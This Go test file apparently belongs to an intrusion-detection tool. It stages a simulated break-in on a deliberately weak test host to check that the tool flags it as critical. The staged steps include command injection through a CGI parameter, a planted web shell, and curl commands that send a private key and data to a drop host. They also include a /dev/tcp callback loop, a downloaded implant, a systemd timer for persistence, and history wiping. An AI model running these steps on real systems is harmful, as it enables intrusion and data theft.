package capture

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
	"github.com/tuxtrail/tuxtrail/logdir"
)

func investigate(t *testing.T, logs string) *hunt.Investigation {
	t.Helper()
	src, err := logdir.Open(logs, logdir.Options{})
	require.NoError(t, err)
	inv, err := hunt.Investigate(t.Context(), src, hunt.Options{})
	require.NoError(t, err)
	return inv
}

// TestRealIntrusion is a break-in in which no step is like those of the
// embedded sample: a hole in a web page, a shell left in the server's folder, a
// stolen key, su with a password found in a file, a timer of systemd, history
// switched off, data carried out.
func TestRealIntrusion(t *testing.T) {
	logs, ok := runScene(t, "iso", weakHost, breakIn)
	if !ok {
		return
	}
	inv := investigate(t, logs)
	require.NotEmpty(t, inv.Findings)
	assert.Equal(t, hunt.SeverityCritical, inv.Findings[0].Severity)
}

const (
	deskErin, deskFrank = "192.0.2.10", "192.0.2.31"
	visitor             = "198.51.100.200"
	webThief            = "203.0.113.140"
	keyThief            = "203.0.113.200"
	drop                = "198.51.100.77"
	prober              = "203.0.113.12"
)

func weakHost(s *scene) {
	s.addresses(webHost, deskErin, deskFrank, visitor, webThief, keyThief, drop, prober)
	s.account("erin", "wide-river-stone-5", true)
	s.account("frank", "unused-by-anyone-1", true)
	s.account("dba", "Qu4rterly-Rep0rt", false)
	s.feed("root:Qu4rterly-Rep0rt\n", "chpasswd") // the same, as people do
	s.write("/etc/sudoers.d/admins", "erin ALL=(ALL) NOPASSWD: ALL\n")
	require.NoError(s.t, os.Chmod("/etc/sudoers.d/admins", 0o440))
	key, err := os.ReadFile(s.path("frank.key"))
	require.NoError(s.t, err)
	require.NoError(s.t, os.MkdirAll("/srv/backup/keys", 0o755))
	s.write("/srv/backup/keys/frank_id", string(key)) // readable by all
	s.write("/home/frank/deploy.conf", "db_user=dba\ndb_password=Qu4rterly-Rep0rt\n")
	s.write("/srv/data.csv", strings.Repeat("name,number\n", 200))
	s.web()
	s.outside(drop+":80", map[string]string{"/kit/refresh": "#!/bin/bash\nwhile :; do exec 3<>/dev/tcp/" + drop + "/8443 && cat <&3 >/dev/null; sleep 2; done\n"})
	s.outside(drop+":8443", nil)
}

func breakIn(s *scene) {
	s.start("cron", "-f")
	s.serve(22, "UsePAM yes")
	const pause = 300 * time.Millisecond

	s.did("web_visits", "", visitor, "ordinary")
	for range 3 {
		s.get(visitor, "/")
		s.get(deskErin, "/cgi-bin/status", "host", "db1")
	}
	s.did("ssh_key", "frank", deskFrank, "the owner of the key, at his desk")
	s.ssh(client{user: "frank", from: deskFrank, key: true, identity: s.path("frank.key"), tty: true, command: "ls; cat deploy.conf | wc -l; uptime"})
	s.did("ssh_admin", "erin", deskErin, "ordinary")
	s.shell(client{user: "erin", from: deskErin, key: true, identity: s.path("erin.key"), tty: true, typed: []string{
		"sudo apt-get --version", "systemctl --no-pager status ssh", "sudo tail -n 5 /var/log/dpkg.log", "df -h", "sudo ls -l /srv",
	}}, pause)
	s.did("ssh_guesses", "root", prober, "fail, nothing comes of it")
	for _, u := range []string{"root", "admin", "frank", "dba"} {
		s.ssh(client{user: u, from: prober, passwords: []string{"letmein"}})
	}

	s.did("web_hole", "www-data", webThief, "commands through the status page")
	for _, c := range []string{"db1;id;uname -a", "db1;cat /etc/passwd", "db1;find /srv -readable -type f"} {
		s.get(webThief, "/cgi-bin/status", "host", c)
	}
	s.did("web_shell", "www-data", webThief, "/srv/www/cgi-bin/health")
	s.get(webThief, "/cgi-bin/status", "host", `x;printf '#!/bin/bash\necho Content-Type: text/plain; echo\nq=${QUERY_STRING#c=}; q=${q//+/ }; sh -c "$(printf %%b "${q//%%/\\\\x}")"\n'>/srv/www/cgi-bin/health;chmod 755 /srv/www/cgi-bin/health`)
	s.get(webThief, "/cgi-bin/health", "c", "id")
	s.did("key_stolen", "frank", webThief, "/srv/backup/keys/frank_id sent to "+drop)
	s.get(webThief, "/cgi-bin/health", "c", "curl -s --data-binary @/srv/backup/keys/frank_id http://"+drop+"/in/k")
	require.Contains(s.t, <-s.reached, "PRIVATE KEY")

	s.did("ssh_stolen_key", "frank", keyThief, "from an address that was never seen")
	s.shell(client{user: "frank", from: keyThief, key: true, identity: s.path("frank.key"), tty: true, typed: []string{
		"unset HISTFILE", "ln -sf /dev/null ~/.bash_history", "id", "hostname", "cat deploy.conf", "grep -r password /srv 2>/dev/null | head -2",
		"su - dba -c id", "Qu4rterly-Rep0rt",
		"su -", "Qu4rterly-Rep0rt",
		"id", "mkdir -p /opt/.cache", "wget -q -O /opt/.cache/refresh http://" + drop + "/kit/refresh", "chmod 755 /opt/.cache/refresh",
		"printf '[Service]\\nExecStart=/opt/.cache/refresh\\n' > /etc/systemd/system/cache-refresh.service",
		"printf '[Timer]\\nOnCalendar=*:0/5\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/cache-refresh.timer",
		"systemctl enable cache-refresh.timer",
		"setsid /opt/.cache/refresh >/dev/null 2>&1 < /dev/null &",
		"tar czf /tmp/.d.tgz /srv/data.csv", "curl -s --data-binary @/tmp/.d.tgz http://" + drop + "/in/d", "rm -f /tmp/.d.tgz", "exit",
	}}, pause)
	for _, what := range []string{"implant", "timer", "connection", "data_sent"} {
		s.did(what, "root", keyThief, drop)
	}
	time.Sleep(2 * time.Second)
}
